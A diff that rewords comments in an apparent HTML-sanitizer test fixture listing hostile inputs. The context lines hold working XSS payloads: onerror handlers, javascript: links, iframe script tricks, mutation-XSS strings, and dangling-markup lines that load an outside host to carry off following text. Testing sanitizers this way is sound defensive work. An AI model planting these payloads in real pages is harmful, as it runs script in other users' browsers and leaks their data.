@@ -1,4 +1,4 @@
-/** What somebody could store to have it run, or loaded from elsewhere, in the browser of another. `hit()` is the alarm. */
+/** Payloads that run a script or load a foreign resource in another person's browser. `hit()` is the alarm. */
 const deep = (tag: string, inside: string, times = 500): string =>
   `${`<${tag}>`.repeat(times)}${inside}${`</${tag}>`.repeat(times)}`;
 const IMG = '<img src=x onerror=hit()>';
@@ -48,7 +48,7 @@ export const hostileHtml: string[] = [
   '<svg><foreignObject><iframe srcdoc="<script>parent.hit()</script>"></iframe></foreignObject></svg>',
   '<math><maction actiontype=statusline xlink:href="javascript:hit()">m</maction></math>',
   '<math href="javascript:hit()">m</math>',
-  // Markup that becomes other markup when it is parsed again.
+  // Markup that changes its meaning when parsed again.
   '<svg></p><style><a id="</style><img src=1 onerror=hit()>">',
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
@@ -69,7 +69,7 @@ export const hostileHtml: string[] = [
   '<a title="` onmouseover=hit() `" href="https://a.test">a</a>',
   '&lt;img src=x onerror=hit()&gt;',
   '&amp;lt;img src=x onerror=hit()&amp;gt;',
-  // Frames, objects and what changes the page around it.
+  // Frames, objects, and elements that change the page around them.
   '<iframe src="javascript:parent.hit()"></iframe>',
   '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
   `<iframe src=${AWAY}></iframe>`,
@@ -120,7 +120,7 @@ export const hostileHtml: string[] = [
   `<picture><source srcset=${AWAY}/x.png><img src=x></picture>`,
   `<video poster=${AWAY}/x.png src=${AWAY}/x.mp4></video>`,
   `<table background=${AWAY}/x.png><tr><td background=${AWAY}/y.png>t</td></tr></table>`,
-  // Markup that is left open, so that it takes in what follows.
+  // Unclosed markup that swallows the following text.
   `<img src='${AWAY}/?take=`,
   '<a href="https://a.test/?take=',
   '<p title="',
@@ -128,7 +128,7 @@ export const hostileHtml: string[] = [
   '</div></div></section></main></body></html>',
   '<!--',
   '<',
-  // Strange letters, and very much of it.
+  // Unusual characters, and very long input.
   '\u202ehit()\u202c<b>\u200b</b>',
   '＜script＞hit()＜/script＞',
   '<s\u0131cript>hit()</s\u0131cript>',
@@ -142,7 +142,7 @@ export const hostileHtml: string[] = [
   `<img ${'x '.repeat(3_000)}onerror=hit() src=x>`,
 ];
 
-/** What must never be kept as a link. */
+/** Values that must never be stored as a link. */
 export const hostileLinks: string[] = [
   'javascript:hit()',
   'JavaScript:hit()',
